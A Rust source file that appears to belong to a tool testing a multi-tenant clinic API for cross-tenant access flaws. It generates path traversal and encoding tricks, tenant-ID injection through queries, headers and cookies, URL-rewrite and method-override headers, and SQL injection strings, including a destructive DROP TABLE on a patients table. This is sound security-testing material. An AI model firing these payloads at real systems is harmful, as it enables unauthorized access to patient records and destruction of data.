//! Ways of writing a request that some servers read otherwise than they check it.

use crate::fill::Filled;
use crate::wire::Call;

/// The tricks for one call. `own` was filled in with one's own things, `theirs` with the other's; `ids` are the other's
/// island and clinic.
pub(crate) fn tricks(own: &Filled, theirs: &Filled, island: &str, clinic: &str) -> Vec<(String, Call)> {
    let mut tricks = Vec::new();
    let mut add = |name: &str, target: String, headers: &[(&str, &str)]| {
        let mut call = Call { target, ..own.call.clone() };
        call.headers.extend(headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())));
        tricks.push((name.to_owned(), call));
    };
    if own.path != theirs.path {
        let last = theirs.path.rsplit('/').find(|part| part.len() > 20).unwrap_or_default();
        let path = &theirs.path;
        let rest = path.trim_start_matches("/api");
        for (name, target) in [
            ("dot segments", format!("{}/../{last}", own.path)),
            ("dot segments from the root", format!("/api/test/../..{path}")),
            ("encoded dot segments", format!("{}/%2e%2e/{last}", own.path)),
            ("encoded slashes", format!("{}%2f..%2f{last}", own.path)),
            ("twice encoded slashes", format!("{}%252f..%252f{last}", own.path)),
            ("backslashes", format!("{}\\..\\{last}", own.path)),
            ("an empty segment", format!("/api/{rest}")),
            ("two slashes", format!("/{path}")),
            ("a dot segment", format!("/api/.{rest}")),
            ("an encoded letter", format!("/%61pi{rest}")),
            ("a slash at the end", format!("{path}/")),
            ("a null at the end", format!("{path}%00")),
            ("a blank at the end", format!("{path}%20")),
            ("a matrix parameter", format!("{path};a=b")),
            ("an extension", format!("{path}.json")),
            ("capitals", path.to_uppercase()),
            ("an id in capitals", path.replace(last, &last.to_uppercase())),
            ("an id in braces", path.replace(last, &format!("%7B{last}%7D"))),
            ("an id as URN", path.replace(last, &format!("urn:uuid:{last}"))),
            ("an id without hyphens", path.replace(last, &last.replace('-', ""))),
            ("two ids", path.replace(last, &format!("{last},{last}"))),
            ("another host", format!("http://localhost{path}")),
        ] {
            add(name, target, &[]);
        }
    }
    let with = |query: &str| match own.query.as_str() {
        "" => format!("{}?{query}", own.path),
        before => format!("{}?{before}&{query}", own.path),
    };
    let ids = format!("island_id={island}&clinic_id={clinic}&active_clinic_id={clinic}&tenant={island}");
    add("another island in the query", with(&ids), &[]);
    add("another island alone in the query", format!("{}?{ids}", own.path), &[]);
    add("repeated parameters, the other's last", with(&theirs.query), &[]);
    add(
        "repeated parameters, the other's first",
        format!("{}?{}&{}", own.path, theirs.query, own.query),
        &[],
    );
    add("parameters as lists", format!("{}?{}", own.path, theirs.query.replace('=', "[]=")), &[]);
    for (name, query) in [
        ("a search for everything", "search=%25"),
        ("an injected condition", "search=%27%20OR%20%271%27%3D%271"),
        ("an injected statement", "search=%27%3B%20DROP%20TABLE%20patients%3B%20--"),
        ("an injected filter", "filter%5Bisland_id%5D%5Bne%5D=1&limit=200"),
        ("an operator", "date%5Bgte%5D=0001-01-01"),
        ("a limit beyond all", "limit=4294967295"),
    ] {
        add(name, with(query), &[]);
    }
    for (name, header, value) in [
        ("an island in a header", "x-island-id", island),
        ("a clinic in a header", "x-clinic-id", clinic),
        ("a tenant in a header", "x-tenant-id", island),
        ("a rewritten path", "x-original-url", theirs.path.as_str()),
        ("another rewritten path", "x-rewrite-url", theirs.path.as_str()),
        ("another method", "x-http-method-override", "GET"),
        ("a cookie", "cookie", &format!("island_id={island}; clinic_id={clinic}")),
    ] {
        add(name, own.call.target.clone(), &[(header, value)]);
    }
    tricks
}
